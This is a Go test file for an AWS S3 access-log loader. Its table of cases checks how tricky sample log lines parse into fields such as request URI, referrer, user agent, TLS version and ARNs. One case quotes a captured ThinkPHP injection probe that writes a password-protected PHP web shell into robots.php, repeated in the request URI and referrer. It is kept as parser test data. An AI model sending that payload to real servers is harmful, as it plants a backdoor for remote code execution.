package loader

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestSampleTraps asserts, independently of the golden files, the fields
// that the tricky sample lines are there to test, so that a wrong golden
// file cannot pass unnoticed.
func TestSampleTraps(t *testing.T) {
	tests := []struct {
		name string
		file string
		line int
		want map[string]any
	}{
		{"unescaped quote in request URI", "panther-aws.log", 28, map[string]any{
			"requesturi": `GET /" HTTP/1.1`, "httpstatus": int64(403), "errorcode": "AccessDenied",
			"bytessent": int64(243), "referrer": "referer test", "useragent": "curl/7.38.0",
			"requester": nil, "ciphersuite": "ECDHE-RSA-AES128-GCM-SHA256", "tlsVersion": "TLSv1.2",
		}},
		{"user agent ending with a doubled quote", "panther-aws.log", 29, map[string]any{
			"useragent": `Mozilla/5.0 (iPad; CPU OS 13_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.0.1 Mobile/15E148 Safari/604.1"`,
			"referrer":  "https://example,com/some/url",
			"hostid":    "someIDstring",
			"remoteip":  "xxx.xxxx.xx.xxx", "p_any_ip_addresses": nil,
			"requestid":  "xxxxxIDxxxx",
			"hostheader": "s3-ap-northeast-1.amazonaws.com", "tlsVersion": "TLSv1.2",
		}},
		{"non-UTC offset", "panther-aws.log", 17, map[string]any{
			"time": "2021-02-09T12:48:42Z", "p_event_time": "2021-02-09T12:48:42Z", "requesturi": "OPTIONS * HTTP/1.0",
		}},
		{"negative offset", "peers.log", 20, map[string]any{
			"time": "2012-02-10T21:42:07Z", "operation": "WEBSITE.GET.OBJECT",
		}},
		{"17 fields, ending at the user agent", "peers.log", 20, map[string]any{
			"useragent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/535.11 (KHTML, like Gecko) Chrome/17.0.963.56 Safari/535.11",
			"versionid": nil, "hostid": nil, "aclrequired": nil, "additionalFields": nil,
		}},
		{"18 fields, ending at the version id", "panther-aws.log", 30, map[string]any{
			"useragent": "S3Console/0.4", "versionid": nil, "hostid": nil, "bytessent": int64(37728), "turnaroundtime": int64(113),
		}},
		{"bare - request, referrer and user agent", "panther-aws.log", 22, map[string]any{
			"operation": "BATCH.DELETE.OBJECT", "requesturi": nil, "httpstatus": int64(204), "objectsize": int64(344017),
			"referrer": nil, "useragent": nil, "signatureversion": "SigV4", "tlsVersion": "TLSv1.2",
		}},
		{"lifecycle expiry with quoted -", "panther-aws.log", 5, map[string]any{
			"remoteip": nil, "requester": "AmazonS3", "requesturi": nil, "httpstatus": nil, "objectsize": int64(3922),
			"versionid": "DkKg9NTmHopKgqKMcgjFyf4oujClO4J1", "hostid": "JFLmDHDLlTpiqmG5NECMOIsZfzN2Mki0OqHGVbsP20tAVq3176HcY0/F8Y9ONTth",
			"p_any_ip_addresses": nil,
		}},
		{"source region in additionalFields", "panther-aws.log", 14, map[string]any{
			"accesspointarn": "arn:aws:s3:us-west-1:123456789012:accesspoint/example-AP", "aclrequired": "Yes",
			"additionalFields": []string{"us-east-1"}, "tlsVersion": "TLSV1.2",
		}},
		{"26 positional fields: test1 test2 are accesspointarn and aclrequired", "panther-aws.log", 4, map[string]any{
			"tlsVersion": "TLSV1.1", "accesspointarn": "test1", "aclrequired": "test2", "additionalFields": nil,
		}},
		{"assumed-role ARN indicators", "panther-aws.log", 3, map[string]any{
			"requester":             "arn:aws:sts::123456789012:assumed-role/PantherLogProcessingRole/1579693334126446707",
			"p_any_aws_arns":        []string{"arn:aws:sts::123456789012:assumed-role/PantherLogProcessingRole/1579693334126446707"},
			"p_any_aws_account_ids": []string{"123456789012"},
			"p_any_ip_addresses":    []string{"192.0.2.3"},
		}},
		{"PHP injection probe: quotes in request URI and referrer", "peers.log", 45, map[string]any{
			"key":        "/",
			"requesturi": `GET //?s=index/\think\template\driver\file/write&cacheFile=robots.php&content=xbshell1<?php$password%20=%20"xinba";$ch%20=%20explode(".","hello.ass.world.er.t");array_intersect_ukey(array($_REQUEST[$password]%20=>%201),%20array(1),%20$ch[1].$ch[3].$ch[4]);?> HTTP/1.1`,
			"httpstatus": int64(404), "errorcode": "NoSuchKey", "bytessent": int64(272), "totaltime": int64(9),
			"referrer":    `https://dandiarchive.s3.amazonaws.com//?s=index/\think\template\driver\file/write&cacheFile=robots.php&content=xbshell1<?php$password%20=%20"xinba";$ch%20=%20explode(".","hello.ass.world.er.t");array_intersect_ukey(array($_REQUEST[$password]%20=>%201),%20array(1),%20$ch[1].$ch[3].$ch[4]);?>`,
			"useragent":   "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
			"hostid":      "V9t1ypjyDY4plW1QdEvZxgIn2dEET3gncqHpXCat9UyAups5FXGyiU0kcrI2fWZmTh66E67H/tI=",
			"ciphersuite": "ECDHE-RSA-AES128-GCM-SHA256", "hostheader": "dandiarchive.s3.amazonaws.com",
			"tlsVersion": "TLSv1.2", "accesspointarn": nil, "aclrequired": nil,
		}},
		{"user agent starting with a doubled quote", "peers.log", 46, map[string]any{
			"referrer":    nil,
			"useragent":   `"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/67.0.3396.99 Safari/537.36`,
			"versionid":   nil,
			"hostid":      "A54Zaz7Sl0ygUFZ4lEOYCXHxImvTGXnvR+rr9+JcM/gceQWDObRkwnP9nO+wK70lpMaaE78SWvA=",
			"ciphersuite": "ECDHE-RSA-AES128-GCM-SHA256", "objectsize": int64(422868123111),
		}},
		{"presigned URL with filename= in quotes", "peers.log", 59, map[string]any{
			"requesturi":         `GET /ds001161/dataset_description.json?response-content-disposition=attachment;%20filename="dataset_description.json"&X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=XYZ/20241113/us-east-2/s3/aws4_request&X-Amz-Date=20241113T182411Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature=XXXXXXXX HTTP/1.1`,
			"httpstatus":         int64(200),
			"authenticationtype": "QueryString", "tlsVersion": "TLSv1.3",
			"p_any_aws_arns": []string{"arn:aws:iam::123:user/dandi-api-heroku"}, "p_any_aws_account_ids": nil,
		}},
		{"two spaces between remote IP and requester", "peers.log", 62, map[string]any{
			"remoteip": "192.0.2.0", "requester": "arn:aws:iam::123:user/dandi-api-heroku", "requestid": "SAV964NQBF0SD0RV",
			"operation": "REST.GET.OBJECT", "httpstatus": int64(206), "bytessent": nil,
		}},
		{"key with * and 96-hex requester", "peers.log", 65, map[string]any{
			"key":       "path/thumbnails/75*75/image-1.jpeg",
			"requester": "97cb88763cd5f6a666a34ac23fec99f53137a309c78d86459aa421f2c82e82877e77c206a23ad9e41ecc07e3c586e292",
			"useragent": "Amazon CloudFront", "ciphersuite": "TLS_AES_128_GCM_SHA256",
		}},
		{"truncated owner, 18 fields", "peers.log", 34, map[string]any{
			"bucketowner": "79a5", "requester": nil, "key": "foo/bar.html", "httpstatus": int64(304),
			"objectsize": int64(1718), "useragent": "Mozilla/5.0", "versionid": nil,
		}},
		{"svc requester, no remote IP, 25 fields", "peers.log", 7, map[string]any{
			"remoteip": nil, "requester": "svc:delivery.logs.amazonaws.com", "requestid": "MVGXZXEVN3IG9S24",
			"referrer": nil, "useragent": nil, "accesspointarn": nil, "aclrequired": nil, "p_any_aws_arns": nil,
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			checkRow(t, sampleLine(t, tt.file, tt.line), tt.want)
		})
	}
}

// sampleLine returns line n (1-based) of a sample file.
func sampleLine(t testing.TB, file string, n int) string {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join(samplesDir, file))
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(string(raw), "\n")
	if n > len(lines) {
		t.Fatalf("%s has %d lines", file, len(lines))
	}
	return lines[n-1]
}

// sampleLines returns every non-empty line of every sample file.
func sampleLines(t testing.TB) []string {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(samplesDir, "*.log"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no samples: %v", err)
	}
	var out []string
	for _, f := range files {
		raw, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		for _, l := range strings.Split(string(raw), "\n") {
			if l != "" {
				out = append(out, l)
			}
		}
	}
	return out
}
